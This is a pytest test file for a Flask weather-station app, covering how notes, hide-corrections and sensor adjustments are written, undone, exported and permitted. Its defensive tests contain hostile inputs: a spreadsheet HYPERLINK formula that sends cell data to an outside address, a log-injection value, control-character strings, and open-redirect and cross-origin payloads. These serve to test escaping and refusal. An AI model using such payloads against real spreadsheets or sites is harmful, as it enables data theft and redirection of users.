"""The page of notes: what is written by its forms, who may, what is undone, and what is kept."""

import csv
import html
import io
import logging
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import Connection

from flask10x.database.damage import Damage
from flask10x.database.database import Database
from flask10x.errors import CommitNotReplicated, LockTimeout
from flask10x.history import annotations
from flask10x.readings.times import iso_text
from flask10x.runtime.store import Store
from flask10x.web.app import create_app
from tests.conftest import MakeSettings
from tests.support.html import MINUTE, NINE
from tests.support.rows import insert_readings, pico, select

NOTE = {"what": "note", "about": "data2", "from": "2025-08-24 09:00", "text": "opened a window"}
HIDE = {"what": "hide", "about": "data", "from": "2025-08-24 09:00", "to": "2025-08-24 09:00"}
ADJUST = {"what": "adjust", "about": "data.pressure", "offset": "-0.8", "gain": "2"}
WRITE, READ, NOTES = "write-0123456789abcdef", "read-0123456789abcdef", "notes-0123456789abcdef"


def written_down(client: FlaskClient) -> Any:
    return client.get("/api/v1/notes").get_json()


def test_a_note_is_kept_and_the_answer_leads_to_it(client: FlaskClient) -> None:
    answer = client.post("/notes/write", data=NOTE | {"text": " 窓を  開けた <b> "})
    assert (answer.status_code, answer.headers["Location"]) == (303, "/notes?saved=note.1")
    (note,) = written_down(client)["notes"]
    start = {"from_ms": note["from_ms"], "to_ms": note["to_ms"]}
    assert start == {"from_ms": NINE // 1000 * 1000, "to_ms": NINE // 1000 * 1000}
    assert note | {"written": ""} == start | {
        "id": 1,
        "endpoint": "data2",
        "from": "2025-08-24T09:00:00.000+09:00",
        "to": "2025-08-24T09:00:00.000+09:00",
        "text": "窓を 開けた <b>",
        "written": "",
        "undone": None,
    }
    page = client.get("/notes").text
    assert "窓を 開けた &lt;b&gt;" in page
    assert "Bedroom" in page


def test_a_control_character_in_a_text_is_a_gap_between_words(client: FlaskClient) -> None:
    text = "\x1b[31mopened\x00a\r\nwindow\x9b\x07"
    assert client.post("/notes/write", data=NOTE | {"text": text}).status_code == 303
    (note,) = written_down(client)["notes"]
    assert note["text"] == "[31mopened a window"
    assert client.post("/notes/write", data=NOTE | {"text": "\x00"}).status_code == 400


def test_what_is_sent_again_is_written_once(client: FlaskClient) -> None:
    for form in (NOTE, HIDE, ADJUST):
        for _ in range(2):
            assert client.post("/notes/write", data=form).status_code == 303
    found = written_down(client)
    assert len(found["notes"]) == 1 and len(found["corrections"]) == 2
    # What was undone may be written again.
    client.post("/notes/undo", data={"what": "note", "id": str(found["notes"][0]["id"])})
    client.post("/notes/write", data=NOTE)
    assert len(written_down(client)["notes"]) == 2


def test_what_another_correction_has_covered_counts_when_it_is_written_again(
    client: FlaskClient,
) -> None:
    for offset in ("-0.8", "-1.0", "-0.8"):
        client.post("/notes/write", data=ADJUST | {"offset": offset})
    offsets = [one["offset"] for one in written_down(client)["corrections"]]
    assert offsets == [-0.8, -1.0, -0.8]


def test_the_last_one_that_has_room_may_be_sent_again(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    client.post("/notes/write", data=NOTE)
    monkeypatch.setattr(annotations, "has_room", lambda *_: False)
    assert client.post("/notes/write", data=NOTE).status_code == 303


@pytest.mark.parametrize("path", ["/notes/write", "/notes/undo"])
def test_what_is_on_one_machine_only_is_saved_and_the_page_says_so(
    client: FlaskClient, database: Database, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    client.post("/notes/write", data=NOTE)
    commit = Database.commit

    @contextmanager
    def on_one_machine(database: Database) -> Iterator[Connection]:
        with commit(database) as connection:
            yield connection
        raise CommitNotReplicated("canceling the wait for synchronous replication")

    monkeypatch.setattr(Database, "commit", on_one_machine)
    answer = client.post(path, data=HIDE | {"what": "note", "text": "second", "id": "1"})
    assert answer.status_code == 200
    assert "on one machine only" in answer.text and "Nothing was saved" not in answer.text
    notes = written_down(client)["notes"]
    assert len(notes) == 2 if path == "/notes/write" else notes[0]["undone"]


@pytest.mark.parametrize("path", ["/notes/write", "/notes/undo"])
def test_what_cannot_be_written_now_stays_in_its_form(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    def busy(*_: object) -> bool:
        raise LockTimeout("held by another process")

    monkeypatch.setattr(annotations, "add", busy)
    monkeypatch.setattr(annotations, "undo", busy)
    answer = client.post(path, data=NOTE | {"id": "1"})
    assert (answer.status_code, answer.headers["Retry-After"]) == (503, "5")
    assert "nothing was saved" in answer.text
    assert ("opened a window" in answer.text) == (path == "/notes/write")


def test_a_full_list_says_so_and_takes_no_more(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(annotations, "has_room", lambda *_: False)
    answer = client.post("/notes/write", data=NOTE)
    assert answer.status_code == 400 and "there are too many" in answer.text
    assert "opened a window" in answer.text
    assert written_down(client)["notes"] == []


def test_the_switches_beside_a_refused_form_lead_to_its_page(client: FlaskClient) -> None:
    page = client.post("/notes/write", data=NOTE | {"text": ""})
    assert page.status_code == 400
    assert 'href="/notes?lang=ja"' in page.text and 'href="/notes?theme=dark"' in page.text
    answer = client.get("/notes?lang=ja")
    assert (answer.status_code, answer.headers["Location"]) == (303, "/notes")


def test_a_hidden_reading_is_gone_until_it_is_undone(
    client: FlaskClient, database: Database
) -> None:
    with database.commit() as connection:
        insert_readings(connection, [pico(1000.0 + n, NINE + n * MINUTE) for n in range(3)])
    stored = select(database.path, "SELECT * FROM readings")
    assert client.post("/notes/write", data=HIDE).status_code == 303
    pressures = [one["data"]["pressure"] for one in client.get("/history/json").get_json()]
    assert pressures == [1001.0, 1002.0]
    raw = client.get("/history/json?raw=1").get_json()
    assert [one.get("hidden") for one in raw] == [True, None, None]
    said = '<small class="quiet">hidden</small>'
    assert client.get("/history?from=all&raw=1").text.count(said) == 1
    assert said not in client.get("/history?from=all").text
    assert "1000.0" not in client.get("/history.csv").text
    assert "1000.0" in client.get("/history.csv?raw=1").text
    series = client.get("/history/series?measurement=pressure").get_json()["series"]
    assert series[0]["min"] == [1001.0, 1002.0]
    assert client.post("/notes/undo", data={"what": "hide", "id": "1"}).status_code == 303
    assert len(client.get("/history/json").get_json()) == 3
    assert written_down(client)["corrections"][0]["undone"]
    assert select(database.path, "SELECT * FROM readings") == stored


def test_a_sensor_is_adjusted_everywhere(client: FlaskClient, database: Database) -> None:
    with database.commit() as connection:
        insert_readings(connection, [pico(1000.0, NINE)])
    assert client.post("/notes/write", data=ADJUST).status_code == 303
    assert client.get("/history/json").get_json()[0]["data"]["pressure"] == 1999.2
    latest = client.get("/api/v1/latest?station=data").get_json()
    assert latest["measurements"]["pressure"] == 1999.2
    assert client.get("/history/json?pressure__lt=1999").get_json() == []
    assert len(client.get("/history/json?pressure__lt=1999&raw=1").get_json()) == 1
    answer = client.get("/history/series").get_json()
    assert answer["series"][0]["avg"] == [1999.2]
    assert [one["change"] for one in answer["corrections"]] == ["× 2 −0.8 hPa"]
    assert "1999.2" in client.get("/history?from=all").text.replace(",", "")


# A form, and the fields that are wrong in it.
WRONG: list[tuple[dict[str, str], set[str]]] = [
    (NOTE | {"text": " "}, {"text"}),
    (NOTE | {"text": "x" * 301}, {"text"}),
    (NOTE | {"from": ""}, {"from"}),
    (NOTE | {"from": "yesterday"}, {"from"}),
    (NOTE | {"about": "data9"}, {"about"}),
    (NOTE | {"to": "2025-08-23"}, {"from"}),
    (HIDE | {"to": ""}, {"to"}),
    (HIDE | {"about": ""}, {"about"}),
    (HIDE | {"about": "data.co2"}, {"about"}),
    (ADJUST | {"about": "data"}, {"about"}),
    (ADJUST | {"gain": "0"}, {"gain"}),
    (ADJUST | {"gain": "-1"}, {"gain"}),
    (ADJUST | {"gain": "1", "offset": "0"}, {"offset"}),
    (ADJUST | {"offset": "1e3"}, {"offset"}),
    (ADJUST | {"offset": "nan", "gain": "x"}, {"gain", "offset"}),
    ({"what": "delete"}, {"what"}),
    ({}, {"what"}),
]


def test_a_form_that_is_wrong_comes_back_with_what_is_wrong(client: FlaskClient) -> None:
    for form, wrong in WRONG:
        answer = client.post("/notes/write", data=form)
        assert answer.status_code == 400, form
        assert answer.text.count('class="error summary"') == 1, form
        for name in wrong - {"what"}:
            assert f'id="error-{name}"' in answer.text, form
        assert written_down(client) == {"notes": [], "corrections": []}, form
        if "text" in form and "text" not in wrong:
            assert 'value="opened a window"' in answer.text, form


def test_there_are_only_so_many(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(annotations, "MOST_NOTES", 1)
    monkeypatch.setattr(annotations, "MOST_CORRECTIONS", 1)
    another = NOTE | {"text": "another"}
    answers = [client.post("/notes/write", data=one) for one in (NOTE, another, HIDE, ADJUST)]
    assert [one.status_code for one in answers] == [303, 400, 303, 400]
    client.post("/notes/undo", data={"what": "hide", "id": "1"})
    assert client.post("/notes/write", data=ADJUST).status_code == 303


def test_a_link_fills_the_form(client: FlaskClient) -> None:
    page = client.get("/notes?what=hide&about=data2&from=2025-08-24&to=2025-08-25").text
    assert '<details class="write" id="hide" open>' in page
    assert '<option value="data2" selected>' in page
    assert client.get("/notes?wat=hide").status_code == 400


@pytest.mark.parametrize(
    "form",
    [
        {},
        {"what": "note"},
        {"what": "note", "id": "-1"},
        {"id": "1"},
        {"what": "note", "id": "1.co2\n2025-08-24 INFO of somebody else"},
    ],
)
def test_what_can_not_be_undone(client: FlaskClient, form: dict[str, str]) -> None:
    assert client.post("/notes/undo", data=form).status_code == 400


def test_undoing_twice_does_no_harm(client: FlaskClient, caplog: pytest.LogCaptureFixture) -> None:
    client.post("/notes/write", data=NOTE)
    caplog.clear()
    with caplog.at_level(logging.INFO, "flask10x.web.pages.notes.view"):
        for _ in range(2):
            answer = client.post("/notes/undo", data={"what": "note", "id": "1"})
            assert answer.status_code == 303
    assert [one.message for one in caplog.records] == ["Note 1 taken back, by 127.0.0.1"]


def test_all_is_in_the_files(client: FlaskClient) -> None:
    for form in (NOTE, HIDE, ADJUST | {"text": "beside a lamp, too warm"}):
        client.post("/notes/write", data=form)
    client.post("/notes/undo", data={"what": "note", "id": "1"})
    rows = [*csv.DictReader(io.StringIO(client.get("/notes.csv").text))]
    assert [(r["kind"], r["endpoint"], r["measurement"], r["gain"], r["text"]) for r in rows] == [
        ("note", "data2", "", "", "opened a window"),
        ("adjust", "data", "pressure", "2.0", "beside a lamp, too warm"),
        ("hide", "data", "", "", ""),
    ]
    assert rows[0]["undone"] and not rows[1]["undone"]
    answer = client.get("/notes.json")
    assert answer.get_json() == written_down(client)
    assert answer.headers["Content-Disposition"] == 'attachment; filename="notes.json"'
    assert client.get("/notes.csv?x=1").status_code == 400


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://198.51.100.1/?"&A1)', '\'=HYPERLINK("http://198.51.100.1/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3 °C, frost", "'-2+3 °C, frost"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("＝1+1", "'＝1+1"),
        ("-2.5", "-2.5"),
        ("a=1", "a=1"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_no_text_is_a_formula_to_a_spreadsheet(client: FlaskClient, text: str, cell: str) -> None:
    client.post("/notes/write", data=NOTE | {"text": text})
    client.post("/notes/write", data=ADJUST | {"text": text, "offset": "-2.5"})
    note, correction = csv.DictReader(io.StringIO(client.get("/notes.csv").text))
    assert (note["text"], correction["text"], correction["offset"]) == (cell, cell, "-2.5")
    assert written_down(client)["notes"][0]["text"] == text


# --- One reading ------------------------------------------------------------------------------


def store(database: Database, *pressures: float) -> None:
    """Readings of the Pico, one a minute."""
    with database.commit() as connection:
        insert_readings(connection, [pico(p, NINE + n * MINUTE) for n, p in enumerate(pressures)])


def names(page: str) -> list[str]:
    """The readings that a page has to choose from."""
    return re.findall(r'name="reading" value="([^"]+)"', page)


def range_of(first: int, last: int) -> str:
    return f"from={iso_text(first, UTC)}&to={iso_text(last, UTC)}".replace("+", "%2B")


def test_a_point_of_a_chart_is_the_reading_with_its_exact_time_and_value(
    client: FlaskClient, database: Database
) -> None:
    store(database, 1000.0, 1085.123, 990.0)
    whole = range_of(NINE - MINUTE, NINE + 3 * MINUTE)
    page = client.get(f"/notes?reading=highest&about=data.pressure&{whole}").text
    assert names(page) == ["2.pressure", "3.pressure"]
    assert "Sun 24 Aug 2025, 09:01:00" in page and "in full 1085.123" in page
    page = client.get(f"/notes?reading=lowest&about=data.pressure&{whole}").text
    assert names(page)[0] == "3.pressure"
    one = range_of(NINE + MINUTE, NINE + MINUTE)
    assert names(client.get(f"/notes?reading=near&about=data.pressure&{one}").text) == [
        "2.pressure",
        "2",
    ]
    assert "/history?endpoint=data&amp;measurement=pressure&amp;from=2025-08-24+08:47:00" in page
    nothing = range_of(NINE + 9 * MINUTE, NINE + 10 * MINUTE)
    page = client.get(f"/notes?reading=near&about=data.pressure&{nothing}").text
    assert "There is no reading here" in page and names(page) == []


def test_what_was_corrected_is_told_as_it_is_shown_and_as_it_was_stored(
    client: FlaskClient, database: Database
) -> None:
    store(database, 1000.0, 1010.0)
    client.post("/notes/write", data=ADJUST)
    assert "stored as 1000.0" in client.get("/notes?reading=1.pressure").text
    hide = {"what": "hide", "reading": "2.pressure", "text": "a spike"}
    assert client.post("/notes/write", data=hide).status_code == 303
    page = client.get("/notes?reading=2").text
    assert "a spike" in page and 'name="id" value="2"' in page
    whole = range_of(NINE, NINE + MINUTE)
    found = names(client.get(f"/notes?reading=highest&about=data.pressure&{whole}").text)
    assert found[0] == "1.pressure"
    found = names(client.get(f"/notes?reading=highest&raw=1&about=data.pressure&{whole}").text)
    assert found[0] == "2.pressure"


@pytest.mark.parametrize(
    ("form", "measurement"),
    [({"reading": "2.pressure"}, "pressure"), ({"reading": "2"}, None)],
)
def test_a_reading_is_hidden_by_its_number_to_the_millisecond(
    client: FlaskClient, database: Database, form: dict[str, str], measurement: str | None
) -> None:
    store(database, 1000.0, 1085.0)
    stored = select(database.path, "SELECT * FROM readings")
    back = {"back": "/history?from=-24h"}
    answer = client.post("/notes/write", data={"what": "hide", "text": "why"} | form | back)
    assert answer.status_code == 303
    page = client.get(answer.headers["Location"]).text
    assert "Hidden" in page and "why" in page and "it stays stored" in page
    assert 'class="back" href="/history?from=-24h"' in page
    (written,) = written_down(client)["corrections"]
    assert (written["from_ms"], written["to_ms"]) == (NINE + MINUTE, NINE + MINUTE)
    assert (written["measurement"], written["text"]) == (measurement, "why")
    undone = client.post("/notes/undo", data={"what": "hide", "id": "1"} | form | back)
    assert "It is shown again." in client.get(undone.headers["Location"]).text
    assert select(database.path, "SELECT * FROM readings") == stored


def test_a_note_is_written_at_a_reading(client: FlaskClient, database: Database) -> None:
    store(database, 1000.0)
    empty = client.post("/notes/write", data={"what": "note", "reading": "1.pressure"})
    assert empty.status_code == 400 and 'id="error-text"' in empty.text
    assert names(empty.text)[0] == "1.pressure"
    form = {"what": "note", "reading": "1.pressure", "text": "moved"}
    assert client.post("/notes/write", data=form).status_code == 303
    (note,) = written_down(client)["notes"]
    assert (note["endpoint"], note["from_ms"], note["text"]) == ("data", NINE, "moved")


@pytest.mark.parametrize(
    "query",
    [
        "reading=near&about=data9&from=2025-08-24&to=2025-08-25",
        "reading=near&about=data.co2&from=2025-08-24&to=2025-08-25",
        "reading=near&about=data&from=yesterday&to=2025-08-25",
        "reading=near&about=data",
        "edit=7",
    ],
)
def test_a_reading_that_there_cannot_be_is_refused(client: FlaskClient, query: str) -> None:
    assert client.get(f"/notes?{query}").status_code == 400


@pytest.mark.parametrize("name", ["7", "1.co2", "x", "9" * 30, "1.pressure.x"])
def test_what_is_no_reading_any_more_is_not_hidden(client: FlaskClient, name: str) -> None:
    assert client.get("/notes", query_string={"reading": name}).status_code == 200
    answer = client.post("/notes/write", data={"what": "hide", "reading": name})
    assert answer.status_code == 400
    assert "there is no such reading any more" in answer.text
    assert written_down(client)["corrections"] == []


def test_an_edited_note_is_one_and_its_old_text_is_kept(client: FlaskClient) -> None:
    client.post("/notes/write", data=NOTE)
    page = client.get("/notes?edit=1").text
    assert "Edit the note" in page and 'value="opened a window"' in page
    assert '<option value="data2" selected>' in page and 'value="2025-08-24T09:00:00"' in page
    edited = NOTE | {"text": "opened both windows", "edit": "1"}
    for _ in range(2):
        assert client.post("/notes/write", data=edited).status_code == 303
    notes = {note["text"]: bool(note["undone"]) for note in written_down(client)["notes"]}
    assert notes == {"opened both windows": False, "opened a window": True}
    # Without a change it stays what it is.
    client.post("/notes/write", data=edited | {"edit": "2"})
    assert len(written_down(client)["notes"]) == 2


@pytest.mark.parametrize(
    ("referer", "back"),
    [
        ("http://localhost/history?endpoint=data2&from=-24h", "/history?endpoint=data2&from=-24h"),
        ("http://localhost/records", "/records"),
        ("http://localhost/notes?what=note", ""),
        ("http://evil.example/history", ""),
        ("http://localhost//evil.example/", ""),
        ("http://[", ""),
    ],
)
def test_the_way_back_is_where_one_came_from(client: FlaskClient, referer: str, back: str) -> None:
    page = client.get("/notes", headers={"Referer": referer}).text
    found = re.findall(r'class="back" href="([^"]*)"', page)
    assert [html.unescape(one) for one in found] == [back] * bool(back)
    is_chosen = '<option value="data2" selected>' in page
    assert is_chosen == ("endpoint=data2" in back)


@pytest.mark.parametrize(
    "back", ["//evil.example", "/\\evil.example", "http://evil.example", "/\n"]
)
def test_no_way_back_leads_to_another_server(client: FlaskClient, back: str) -> None:
    answer = client.post("/notes/write", data=NOTE | {"back": back})
    assert answer.headers["Location"] == "/notes?saved=note.1"
    assert 'class="back"' not in client.get("/notes", query_string={"back": back}).text


def test_the_history_lists_what_was_written_of_its_time(client: FlaskClient) -> None:
    for form in (NOTE, HIDE | {"text": "a spike"}):
        client.post("/notes/write", data=form)
    for query, is_there in (("from=2025-08-24", True), ("from=2025-08-25", False)):
        page = client.get(f"/history?{query}").text
        noted = page[page.index('<div id="noted">') : page.index('<section id="table"')]
        assert ("opened a window" in noted, "a spike" in noted) == (is_there, is_there)
    # Of other stations it lists nothing.
    assert "opened a window" not in client.get("/history?from=2025-08-24&endpoint=data3").text


# --- Who may -----------------------------------------------------------------------------------


@pytest.fixture
def make_client(
    make_settings: MakeSettings, tmp_path: Path
) -> Iterator[Callable[..., FlaskClient]]:
    stores: list[Store] = []

    def make(**files: str) -> FlaskClient:
        given = {}
        for name, token in files.items():
            file = tmp_path / name
            file.write_text(f"* {token}\n")
            file.chmod(0o600)
            given[f"{name.upper()}_TOKENS_FILE"] = file
        app = create_app(make_settings(**given))
        stores.append(app.extensions["flask10x"])
        return app.test_client()

    yield make
    for store in stores:
        store.close()


def post(client: FlaskClient, token: str = "", **headers: str) -> int:
    given = {"Authorization": f"Bearer {token}"} if token else {}
    return client.post("/notes/write", data=NOTE, headers=given | headers).status_code


@pytest.mark.usefixtures("database")
def test_who_may_read_may_write_them(make_client: Callable[..., FlaskClient]) -> None:
    assert post(make_client()) == 303
    reading = make_client(read=READ)
    assert [post(reading, token) for token in ("", WRITE, READ)] == [401, 401, 303]
    writing = make_client(write=WRITE)
    assert [post(writing, token) for token in ("", READ, WRITE)] == [401, 401, 303]


@pytest.mark.usefixtures("database")
def test_tokens_for_notes_open_pages_too_but_take_no_readings(
    make_client: Callable[..., FlaskClient],
) -> None:
    client = make_client(read=READ, notes=NOTES, write=WRITE)
    assert [post(client, token) for token in ("", WRITE, READ, NOTES)] == [401, 401, 401, 303]
    own, others = ({"Authorization": f"Bearer {token}"} for token in (NOTES, WRITE))
    for path in ("/notes", "/history", "/api/v1/notes", "/notes.csv"):
        codes = [client.get(path, headers=one).status_code for one in (own, others, {})]
        assert codes == [200, 401, 401]
    assert client.post("/data", json={}, headers=own).status_code == 401
    alone = make_client(notes=NOTES)
    assert alone.get("/notes").status_code == 200
    assert [post(alone, token) for token in ("", NOTES)] == [401, 303]


@pytest.mark.usefixtures("database")
def test_who_needs_a_token_is_told_which_and_how(make_client: Callable[..., FlaskClient]) -> None:
    said = "FLASK10X_NOTES_TOKENS_FILE"
    alone = make_client(notes=NOTES)
    assert said in alone.get("/notes").text
    own = {"Authorization": f"Bearer {NOTES}"}
    assert said not in alone.get("/notes", headers=own).text
    assert "FLASK10X_WRITE_TOKENS_FILE" in make_client(write=WRITE).get("/notes").text
    assert "TOKENS_FILE" not in make_client().get("/notes").text


def test_while_nothing_can_be_written_the_panel_says_so(
    client: FlaskClient, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    store(database, 1000.0)
    monkeypatch.setattr(Damage, "obstacle", "the database is damaged: a test")
    page = client.get("/notes?reading=1").text
    assert "the database is damaged: a test" in page and 'href="/status"' in page
    assert 'value="hide"' not in page


def test_a_page_of_another_origin_writes_nothing(client: FlaskClient) -> None:
    assert post(client, Origin="http://evil.example") == 403
    headers = {"Sec-Fetch-Site": "cross-site"}
    assert post(client, **headers) == 403
    undo = client.post("/notes/undo", data={"what": "note", "id": "1"}, headers=headers)
    assert undo.status_code == 403
    assert client.get("/notes/write").status_code == 405
    assert written_down(client)["notes"] == []


def test_what_may_be_meant_by_a_number_is_named(client: FlaskClient) -> None:
    answer = client.post("/notes/write", data=ADJUST | {"offset": "1,500"})
    assert answer.status_code == 400
    needed = "a plain number such as 25 or -0.5 is needed"
    assert needed in answer.text


def test_a_link_to_an_unknown_form_is_refused(client: FlaskClient) -> None:
    assert client.get("/notes?what=hide").status_code == 200
    answer = client.get("/notes?what=hidee")
    assert answer.status_code == 400
    assert "one of note, hide, adjust is needed" in answer.text
    wrong, japanese = NOTE | {"what": "hidee"}, {"Accept-Language": "ja"}
    for refused in (
        client.get("/notes?what=hidee", headers=japanese),
        client.post("/notes/write", data=wrong, headers=japanese),
    ):
        assert refused.status_code == 400
        assert "note, hide, adjust のどれかを指定してください" in refused.text


def test_a_station_that_never_sent_is_chosen_only_if_the_address_names_it(
    client: FlaskClient,
) -> None:
    shown = '<option value="data2"'
    assert shown not in client.get("/notes").text
    assert f"{shown} selected>" in client.get("/notes?what=note&about=data2").text
